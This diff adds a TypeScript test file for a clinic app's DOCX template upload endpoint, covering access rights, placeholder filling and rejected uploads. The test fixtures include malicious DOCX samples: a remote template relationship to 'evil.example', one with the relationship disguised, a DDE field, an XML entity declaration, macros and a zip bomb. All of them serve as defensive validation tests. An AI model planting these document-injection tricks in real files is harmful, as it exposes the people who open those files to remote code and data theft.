@@ -1,0 +1,176 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
+import { zipSync } from "fflate";
+import { DOCX_TYPE } from "../../../shared/act.ts";
+import { addDoctor, offer, THURSDAY_NINE, TODAY } from "../../support/clinic.ts";
+import { docxText } from "../../support/docx.ts";
+import { type SignedIn, startServer, type TestServer } from "../../support/server.ts";
+import { templateForm, templateWith } from "../../support/template.ts";
+import { bookAtDesk } from "../../support/visits.ts";
+
+const PATH = "/api/journal/admin/template";
+const DOCUMENT = "word/document.xml";
+const RELATIONS = "word/_rels/document.xml.rels";
+
+let server: TestServer;
+let administrator: SignedIn;
+let doctor: number;
+beforeAll(async () => {
+  server = await startServer({ clock: () => THURSDAY_NINE });
+  administrator = await server.signIn();
+  doctor = await addDoctor(server.db);
+  await offer(server.db, doctor, TODAY, ["10:00"]);
+});
+afterAll(() => server.stop());
+
+const upload = async (bytes: Uint8Array<ArrayBuffer>, as?: { name?: string; type?: string }) => {
+  const answer = await administrator.request(PATH, templateForm(bytes, as));
+  return { status: answer.status, message: (await answer.json()).message as string };
+};
+const inUse = async () => (await administrator.request(PATH)).bytes();
+
+/** The text of the act of a visit booked and cancelled now. */
+async function freshAct(): Promise<string> {
+  const { id } = await bookAtDesk(administrator, { employee: doctor, time: "10:00" });
+  await administrator.request(`/api/journal/${id}`, { method: "DELETE" });
+  const [act] = await (await administrator.request("/api/journal/acts/index")).json();
+  const path = `/api/journal/acts/download-single/${act.act_filename}`;
+  return docxText(await (await administrator.request(path)).bytes());
+}
+
+test("A-7.48 the default template is a DOCX to download, with every placeholder in it", async () => {
+  const answer = await administrator.request(PATH);
+  expect(answer.headers.get("content-type")).toContain(DOCX_TYPE);
+  const text = docxText(await answer.bytes());
+  for (const placeholder of ["{{оператор}}", "{{номер_записи}}", "{{причина}}", "{{кто}}"]) {
+    expect(text).toContain(placeholder);
+  }
+});
+
+test("A-6.5 A-4.31 template and log are for holders of the users right alone", async () => {
+  const journal = await server.signIn(["journal", "schedule", "articles", "prices"]);
+  const users = await server.signIn(["users"]);
+  for (const path of [PATH, "/api/journal/logs/download"]) {
+    expect((await journal.request(path)).status).toBe(403);
+    expect((await server.request(path)).status).toBe(401);
+    expect((await users.request(path)).status).toBe(200);
+  }
+  const form = templateForm(await templateWith(() => ({})));
+  expect((await journal.request(PATH, form)).status).toBe(403);
+});
+
+describe("an upload", () => {
+  test("A-7.50 A-4.32 that is good is what the next act is made from", async () => {
+    const bytes = await templateWith((text) => ({
+      [DOCUMENT]: text(DOCUMENT).replace("Составлен в соответствии", "По форме клиники"),
+    }));
+    expect(await upload(bytes)).toEqual({ status: 201, message: "Шаблон успешно обновлен" });
+    expect(await inUse()).toEqual(bytes);
+    expect(await freshAct()).toContain("По форме клиники");
+  });
+
+  test("with placeholders that Word split over several runs is filled in", async () => {
+    const split = "{{при</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>чи</w:t></w:r><w:r><w:t>на}}";
+    const bytes = await templateWith((text) => ({
+      [DOCUMENT]: text(DOCUMENT).replace("{{причина}}", split),
+    }));
+    expect((await upload(bytes)).status).toBe(201);
+    const act = await freshAct();
+    expect(act).toContain("Отмена записи");
+    expect(act).not.toContain("{{");
+  });
+
+  afterEach(async () => {
+    expect(docxText(await inUse())).toContain("{{");
+  });
+
+  const NOT_DOCX = "Пожалуйста, выберите файл в формате DOCX";
+  const word = new Uint8Array(Buffer.from("%PDF-1.7"));
+
+  test.each([
+    ["a PDF by name", { name: "акт.pdf" }],
+    ["a macro document by name", { name: "акт.docm" }],
+    ["another type", { type: "application/pdf" }],
+    ["no type", { type: "" }],
+    ["bytes that are no ZIP", {}],
+  ])("A-5.22 A-9.12 A-7.50 of %s is refused", async (_, as) => {
+    const bytes = Object.keys(as).length > 0 ? await templateWith(() => ({})) : word;
+    expect(await upload(bytes, as)).toEqual({ status: 400, message: NOT_DOCX });
+  });
+
+  test("A-9.12 of a ZIP that is no document is refused", async () => {
+    const zip = new Uint8Array(zipSync({ "a.txt": new Uint8Array(3) }));
+    expect(await upload(zip)).toEqual({ status: 400, message: NOT_DOCX });
+  });
+
+  test("A-5.23 without a file is refused", async () => {
+    const answer = await administrator.request(PATH, { method: "POST", body: new FormData() });
+    expect(answer.status).toBe(400);
+    expect((await answer.json()).message).toBe("Пожалуйста, выберите файл");
+  });
+
+  const external = (mode: string) => (text: (name: string) => string) => ({
+    [RELATIONS]: text(RELATIONS).replace(
+      "</Relationships>",
+      `<Relationship Id="rId99" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" ${mode}/></Relationships>`,
+    ),
+  });
+  type Change = Parameters<typeof templateWith>[0];
+  test.each<[string, Change, string]>([
+    ["with macros", () => ({ "word/vbaProject.bin": new Uint8Array(9) }), "макросы"],
+    [
+      "of a macro type",
+      (text) => ({
+        "[Content_Types].xml": text("[Content_Types].xml").replace(
+          "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
+          "vnd.ms-word.document.macroEnabled.main",
+        ),
+      }),
+      "макросы",
+    ],
+    ["with an external relation", external('TargetMode="External"'), "https://evil.example/t.dotm"],
+    ["with a disguised one", external("TargetMode='&#69;xternal'"), "https://evil.example/t.dotm"],
+    [
+      "that reads other files",
+      (text) => ({
+        [DOCUMENT]: text(DOCUMENT).replace(
+          "<w:body>",
+          '<w:body><w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\\\x</w:instrText></w:r></w:p>',
+        ),
+      }),
+      "читает другие файлы",
+    ],
+    [
+      "with entities",
+      (text) => ({
+        [DOCUMENT]: text(DOCUMENT).replace("?>", '?><!DOCTYPE x [<!ENTITY a "aaaa">]>'),
+      }),
+      "недопустимая разметка",
+    ],
+    [
+      "without a mandatory placeholder",
+      (text) => ({ [DOCUMENT]: text(DOCUMENT).replace("{{причина}}", "").replace("{{кто}}", "") }),
+      "нет обязательных полей: {{причина}}, {{кто}}",
+    ],
+    [
+      "with a placeholder misspelt",
+      (text) => ({ [DOCUMENT]: text(DOCUMENT).replace("{{дата}}", "{{ дата }}") }),
+      "Неизвестные поля: {{ дата }}",
+    ],
+    ["of a document cut short", (text) => ({ [DOCUMENT]: text(DOCUMENT).slice(0, 900) }), ""],
+    [
+      "that is a bomb",
+      () => ({ "word/media/a.bin": new Uint8Array(40 * 1024 * 1024) }),
+      "слишком велик",
+    ],
+  ])(
+    "A-7.50 %s is refused, saying what is wrong; the one in use stays",
+    async (_, change, says) => {
+      const before = await inUse();
+      const { status, message } = await upload(await templateWith(change));
+      expect(status).toBe(400);
+      expect(message).toContain(says);
+      expect(message).toMatch(/[а-я]/);
+      expect(await inUse()).toEqual(before);
+    },
+  );
+});
